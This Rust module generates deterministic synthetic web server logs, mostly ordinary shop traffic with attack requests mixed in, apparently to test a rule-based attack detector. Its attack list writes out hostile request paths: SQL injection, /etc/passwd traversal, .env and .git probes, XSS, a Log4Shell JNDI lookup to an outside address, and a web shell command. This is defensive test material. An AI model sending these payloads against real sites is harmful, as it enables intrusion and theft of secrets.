//! An ordinary shop's traffic with attackers among the visitors, and harder mixes, as combined log lines; the same in
//! every run.

use std::io::{self, Write};

use crate::detect::rules::RuleSet;

const AGENTS: [&str; 8] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (Linux; Android 14; SM-G991B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:131.0) Gecko/20100101 Firefox/131.0",
];

const SECTIONS: [&str; 10] =
    ["products", "blog", "news", "about", "help", "category/shoes", "category/hats", "cart", "account", "static/img"];

const ATTACKS: [&str; 12] = [
    "/index.php?id=1%27%20UNION%20SELECT%201,2,3--%20-",
    "/download?file=../../../../../../etc/passwd",
    "/.env",
    "/wp-content/plugins/x/readme.txt",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/.git/config",
    "/cgi-bin/luci/;stok=/locale",
    "/?x=${jndi:ldap://203.0.113.1/a}",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/phpmyadmin/index.php",
    "/backup.sql.gz",
    "/shell.php?cmd=id",
];

/// What the lines are like.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Mix {
    /// Twenty thousand visitors and some sixty thousand targets; of a hundred lines three are attacks.
    Ordinary,
    /// Nothing repeats: a query, half of it encoded, that never comes twice, and many more visitors, pages and agents.
    Unique,
    /// Nothing but attacks, every one that a rule of the pack gives as its sample, from sixteen thousand addresses.
    Attack,
}

/// Writes that many lines of ordinary traffic, twenty a second from a noon on.
pub fn write(out: &mut impl Write, lines: u64) -> io::Result<()> {
    write_mix(out, lines, Mix::Ordinary)
}

/// The same of any mix.
pub fn write_mix(out: &mut impl Write, lines: u64, mix: Mix) -> io::Result<()> {
    let mut dice = Dice::new(0x5eed);
    let samples = if mix == Mix::Attack { samples() } else { Vec::new() };
    for line in 0..lines {
        let second = line / 20;
        let (day, hour, minute) = (12 + second / 86_400, second / 3600 % 24, second / 60 % 60);
        let stamp = format!("{:02}/Nov/2026:{hour:02}:{minute:02}:{:02} +0000", day % 28 + 1, second % 60);
        match mix {
            Mix::Attack => sample(out, &mut dice, &samples, &stamp)?,
            _ if dice.roll(100) < 3 => attack(out, &mut dice, &stamp)?,
            Mix::Ordinary => visit(out, &mut dice, &stamp)?,
            Mix::Unique => unique_visit(out, &mut dice, &stamp, line)?,
        }
    }
    Ok(())
}

/// The targets by which the pack's rules are tested.
fn samples() -> Vec<String> {
    let (set, _) = RuleSet::load(RuleSet::pack());
    let all = set.rules().iter().flat_map(|rule| rule.samples.must_match.clone());
    all.filter(|sample| sample.starts_with('/')).map(|sample| sample.replace('"', "%22")).collect()
}

fn sample(out: &mut impl Write, dice: &mut Dice, samples: &[String], stamp: &str) -> io::Result<()> {
    let target = samples.get(dice.roll(samples.len() as u64) as usize).map_or("/", String::as_str);
    let (client, status) = (dice.roll(16_384), dice.pick(&[404, 403, 404, 400, 200]));
    let agent = dice.pick(&AGENTS);
    writeln!(
        out,
        "198.18.{}.{} - - [{stamp}] \"GET {target} HTTP/1.1\" {status} 162 \"-\" \"{agent}\"",
        client / 256,
        client % 256
    )
}

fn unique_visit(out: &mut impl Write, dice: &mut Dice, stamp: &str, line: u64) -> io::Result<()> {
    let (person, section, page) = (dice.roll(200_000), dice.pick(&SECTIONS), dice.roll(50_000));
    let mark = dice.roll(u64::MAX);
    let encoded =
        if line.is_multiple_of(2) { "&q=caf%C3%A9+au%20lait&from=%2Fshop%2F" } else { "&utm_source=mail&ref=" };
    writeln!(
        out,
        "100.{}.{}.{} - - [{stamp}] \"GET /{section}/article-{page}?session={mark:016x}{encoded}{line} HTTP/1.1\" {} {} \
         \"https://shop.example/{section}/article-{}\" \"{} build/{}\"",
        64 + person / 65_536,
        person / 256 % 256,
        person % 256,
        dice.pick(&[200, 200, 200, 304, 302]),
        dice.roll(90_000),
        dice.roll(50_000),
        AGENTS[(person % 5) as usize],
        person % 4000,
    )
}

fn visit(out: &mut impl Write, dice: &mut Dice, stamp: &str) -> io::Result<()> {
    let person = dice.roll(20_000);
    let section = dice.pick(&SECTIONS);
    let page = dice.roll(3000);
    let target = match dice.roll(10) {
        0 => format!("/{section}?page={page}&sort=price"),
        1 => format!("/search?q=running+shoes+size+{page}&lang=en%2DGB"),
        2 => format!("/static/js/app.{page:08x}.js"),
        3 => format!("/static/img/photo-{page}.webp?w=640&h=480"),
        _ => format!("/{section}/article-{page}-with-a-title-of-some-length"),
    };
    let status = dice.pick(&[200, 200, 200, 200, 200, 200, 304, 302, 200, 404]);
    let status = if status == 404 && dice.roll(20) > 0 { 200 } else { status };
    writeln!(
        out,
        "100.{}.{}.{} - - [{stamp}] \"GET {target} HTTP/1.1\" {status} {} \"https://shop.example/{section}\" \"{}\"",
        64 + person / 65_536,
        person / 256 % 256,
        person % 256,
        dice.roll(90_000),
        AGENTS.iter().cycle().nth((person % 8) as usize).copied().unwrap_or_default(),
    )
}

fn attack(out: &mut impl Write, dice: &mut Dice, stamp: &str) -> io::Result<()> {
    let target = dice.pick(&ATTACKS);
    let client = dice.roll(200);
    let status = dice.pick(&[404, 403, 404, 400, 200]);
    writeln!(
        out,
        "203.0.113.{client} - - [{stamp}] \"GET {target} HTTP/1.1\" {status} 162 \"-\" \"{}\"",
        dice.pick(&AGENTS)
    )
}

/// Marsaglia's xorshift: the same numbers everywhere.
pub struct Dice(u64);

impl Dice {
    pub fn new(seed: u64) -> Self {
        Self(seed.max(1))
    }

    /// A number below `sides`.
    pub fn roll(&mut self, sides: u64) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 >> 11) % sides.max(1)
    }

    fn pick<T: Copy, const N: usize>(&mut self, from: &[T; N]) -> T {
        from[(self.roll(N as u64)) as usize]
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_same_lines_in_every_run_and_attacks_among_them() {
        let written = || {
            let mut out = Vec::new();
            write(&mut out, 500).unwrap();
            String::from_utf8(out).unwrap()
        };
        let lines = written();
        assert_eq!(lines.lines().count(), 500);
        assert_eq!(lines, written());
        assert!(lines.lines().any(|line| line.starts_with("203.0.113.")));
    }

    #[test]
    fn of_the_unique_mix_no_target_comes_twice_and_of_attacks_every_one_does() {
        let targets = |mix| {
            let mut out = Vec::new();
            write_mix(&mut out, 2000, mix).unwrap();
            let text = String::from_utf8(out).unwrap();
            let visits = text.lines().filter(|line| !line.starts_with("203.0.113."));
            visits.map(|line| line.split(' ').nth(6).unwrap().to_owned()).collect::<Vec<_>>()
        };
        let distinct = |targets: &[String]| targets.iter().collect::<std::collections::BTreeSet<_>>().len();
        let unique = targets(Mix::Unique);
        assert_eq!(distinct(&unique), unique.len());
        assert!(distinct(&targets(Mix::Attack)) > 200);
    }
}
